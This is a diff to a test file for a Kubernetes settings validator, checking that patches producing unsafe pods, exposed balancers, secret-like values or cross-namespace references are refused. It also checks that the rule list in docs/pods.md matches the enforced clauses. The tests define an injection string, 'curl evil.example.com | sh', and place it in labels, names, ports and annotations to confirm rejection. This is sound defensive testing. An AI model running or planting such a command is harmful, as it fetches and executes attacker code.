@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { minimal, ownGateway } from '../../tests/cases';
 import { SettingsError } from '../checks/problem';
 import type { ChatSettings, Patch } from '../settings';
@@ -30,6 +32,8 @@ const add = (path: string, value: unknown) => ({ op: 'add' as const, path, value
 const pod = '/spec/template/spec';
 const container = `${pod}/containers/0`;
 const init = (more: object) => [{ name: 'init', image: 'x:1', ...more }];
+const command = 'x; curl evil.example.com | sh #';
+const enforce = '/metadata/labels/pod-security.kubernetes.io~1enforce';
 const nginx = (name: string) => `/metadata/annotations/nginx.ingress.kubernetes.io~1${name}`;
 
 describe('what a patch makes of a pod below Pod Security "baseline" is refused', () => {
@@ -222,11 +226,57 @@ describe('what a patch makes of other objects is refused', () => {
       add(`${container}/env/-`, { name: 'API_KEY', value: 'abc' }),
       'named like a secret',
     ],
+    ['a command in a label', 'Deployment', add(`${pod}/nodeSelector`, { a: command }), 'label a has no legal value'],
+    ['a command in a priority', 'Deployment', add(`${pod}/priorityClassName`, command), 'signs that no name has'],
+    ['a command in a Secret', 'Ingress', add('/spec/tls/0/secretName', command), 'signs that no name has'],
+    ['a command in a class', 'Ingress', add('/spec/ingressClassName', command), 'signs that no name has'],
+    ['a command in a Gateway class', 'Gateway', add('/spec/gatewayClassName', command), 'signs that no name has'],
+    ['a command in a port', 'Service', add('/spec/ports/0/port', command), 'signs that no name has'],
+    ['a command in the model', 'Listener', add('/spec/host', command), 'signs that no name has'],
+    [
+      'a command in an issuer',
+      'Ingress',
+      add('/metadata/annotations/cert-manager.io~1cluster-issuer', command),
+      'is not the name of an issuer',
+    ],
+    [
+      'a whole new map over what is there',
+      'Ingress',
+      add('/metadata/annotations', { note: 'a' }),
+      'takes away "cert-manager.io/cluster-issuer"',
+    ],
+    [
+      'a public balancer out of an internal one',
+      'Service',
+      add('/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal', 'false'),
+      'keeps the balancer internal',
+    ],
+    ['"restricted" for the router', 'Namespace', add(enforce, 'restricted'), 'the Skupper router would not start'],
     ['another kind', 'Deployment', add('/kind', 'DaemonSet'), 'no patch changes them'],
     ['another namespace', 'Deployment', add('/metadata/namespace', 'kube-system'), 'no patch changes them'],
     ['another name', 'Service', add('/metadata/name', 'victim'), 'no patch changes them'],
   ])('%s', (_, kind, operation, answer) => {
     expect(answerTo(kind, operation)).toContain(answer);
+  });
+
+  test('a token, by the ServiceAccount and the pod together', () => {
+    const token: Patch[] = [
+      { target: { kind: 'ServiceAccount' }, patch: [{ op: 'remove', path: '/automountServiceAccountToken' }] },
+      { target: { kind: 'Deployment' }, patch: [{ op: 'remove', path: `${pod}/automountServiceAccountToken` }] },
+    ];
+    expect(() => synthesize({ ...chat, patches: token })).toThrow('gives its pods a token of the ServiceAccount');
+  });
+
+  test('an internal balancer that loses what keeps it so', () => {
+    for (const path of [
+      '/metadata/annotations',
+      '/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal',
+    ]) {
+      const patches: Patch[] = [
+        { target: { kind: 'Service', name: 'ilab-client-lb' }, patch: [{ op: 'remove', path }] },
+      ];
+      expect(() => synthesize({ ...chat, patches })).toThrow('keeps the balancer internal');
+    }
   });
 
   test("another's right", () => {
@@ -243,6 +293,94 @@ describe('what a patch makes of other objects is refused', () => {
     );
     expect(answerTo('Route', add('/spec/alternateBackends', [{ kind: 'Other', name: 'x' }]), route)).toContain(
       'a Route leads to Services',
+    );
+  });
+});
+
+/** What docs/pods.md says of the objects after the patches, clause by clause. */
+describe('docs/pods.md, after the patches', () => {
+  const deployment = (path: string, value: unknown) => answerTo('Deployment', add(path, value));
+  const warnings = (path: string, value: unknown) =>
+    synthesize({ ...chat, patches: [{ target: { kind: 'Deployment' }, patch: [add(path, value)] }] }).warnings;
+  const clauses: Readonly<Record<string, () => void>> = {
+    'a pod below Pod Security "baseline" is refused': () =>
+      expect(deployment(`${pod}/hostPID`, true)).toContain('below Pod Security "baseline" (Host Namespaces)'),
+    'a pod below "restricted" brings a warning with the name of the control': () =>
+      expect(warnings(`${pod}/securityContext/runAsUser`, 0).map(({ message }) => message)).toContainEqual(
+        expect.stringContaining('below Pod Security "restricted" (Running as Non-root user)'),
+      ),
+    'no pod chooses its node, sees the processes of its other containers, or has a token of its ServiceAccount': () => {
+      expect(deployment(`${pod}/nodeName`, 'a')).toContain('a node of its own choice');
+      expect(deployment(`${pod}/shareProcessNamespace`, true)).toContain('processes of other containers');
+      expect(deployment(`${pod}/automountServiceAccountToken`, true)).toContain('a token of the ServiceAccount');
+    },
+    'secrets are refused, by the words of their names and by the form of their values': () => {
+      expect(deployment(`${container}/env/-`, { name: 'CLIENT_SECRET', value: 'a' })).toContain('named like a secret');
+      expect(deployment(`${container}/args/-`, `sk-${'0123456789abcdef'.repeat(2)}`)).toContain('looks like a secret');
+    },
+    'images have a tag that stays': () =>
+      expect(deployment(`${container}/image`, 'x:latest')).toContain('has no tag, or one that moves'),
+    'probes ask ports that a container has': () =>
+      expect(deployment(`${container}/livenessProbe/tcpSocket/port`, 5000)).toContain('which no container has'),
+    'selectors, backends and ServiceAccounts lead to objects of the chat': () => {
+      expect(answerTo('Service', add('/spec/selector', { app: 'x' }))).toContain('selector matches no pods');
+      expect(answerTo('HTTPRoute', add('/spec/rules/0/backendRefs', [{ name: 'x', port: 80 }]))).toContain(
+        'which is not there',
+      );
+      expect(deployment(`${pod}/serviceAccountName`, 'x')).toContain('which is not there');
+    },
+    'an Ingress has no snippets, no hosts beside its rules, and nothing of other namespaces': () => {
+      expect(answerTo('Ingress', add(nginx('server-snippet'), 'a'))).toContain('snippets');
+      expect(answerTo('Ingress', add(nginx('server-alias'), 'a'))).toContain('hosts that no rule names');
+      expect(answerTo('Ingress', add(nginx('auth-secret'), 'a/b'))).toContain('another namespace');
+    },
+    'hosts, names in the DNS, addresses and namespaces of another chat are refused': () => {
+      const one = (name: string, ...patch: Patch['patch'][number][]): ChatSettings => ({
+        ...minimal,
+        namespace: { name },
+        exposure: { nginxIngress: { host: `${name}.example.com` }, loadBalancer: { sourceRanges: ['10.0.0.0/8'] } },
+        patches: patch.map((operation) => ({
+          target: operation.path.includes('rules') ? { kind: 'Ingress' } : { kind: 'Service', name: 'ilab-client-lb' },
+          patch: [operation],
+        })),
+      });
+      const address = add('/spec/loadBalancerIP', '10.0.0.1');
+      const dns = add('/metadata/annotations', { 'external-dns.alpha.kubernetes.io/hostname': 'a.example.com' });
+      const b = one('b', address, dns, add('/spec/rules/0/host', 'a.example.com'));
+      expect(() => synthesize({ chats: { a: one('a', address), b } })).toThrow(
+        /the address 10.0.0.1 is taken.*orders "a.example.com".*"a.example.com" of the class nginx is taken/s,
+      );
+    },
+    'an internal load balancer stays internal': () =>
+      expect(
+        answerTo(
+          'Service',
+          add('/metadata/annotations/service.beta.kubernetes.io~1azure-load-balancer-internal', 'false'),
+        ),
+      ).toContain('keeps the balancer internal'),
+    'a whole new map of labels or annotations takes none of the others away': () =>
+      expect(answerTo('Ingress', add('/metadata/labels', {}))).toContain('takes away "app"'),
+    'an object weighs at most 1 MiB, with 262144 bytes of annotations and keys of at most 317 printable characters':
+      () => {
+        expect(deployment('/spec/x', 'x'.repeat(2 ** 20))).toContain('weighs more than 1048576 bytes');
+        expect(deployment('/metadata/annotations', { a: 'x'.repeat(262_144) })).toContain(
+          '262145 bytes of annotations',
+        );
+        expect(deployment('/spec/x', { ['x'.repeat(318)]: 1 })).toContain('a key of 318 characters');
+        expect(deployment('/spec/x', { 'x\n': 1 })).toContain('use printable ASCII');
+      },
+    'what an object is, its kind, name and namespace, no patch changes': () =>
+      expect(deployment('/metadata/name', 'x')).toContain('no patch changes them'),
+  };
+  const document = readFileSync(join(__dirname, '..', '..', 'docs', 'pods.md'), 'utf8');
+  const [, paragraph = ''] =
+    /After the patches the finished objects are looked at as a whole:(.*?)\.\n\n/s.exec(document) ?? [];
+
+  test.each(Object.entries(clauses))('%s', (_, holds) => holds());
+
+  test('it says no more and no less', () => {
+    expect(paragraph.split(';').map((clause) => clause.replace(/\s+/g, ' ').replace(/^ (and )?/, ''))).toEqual(
+      Object.keys(clauses),
     );
   });
 });
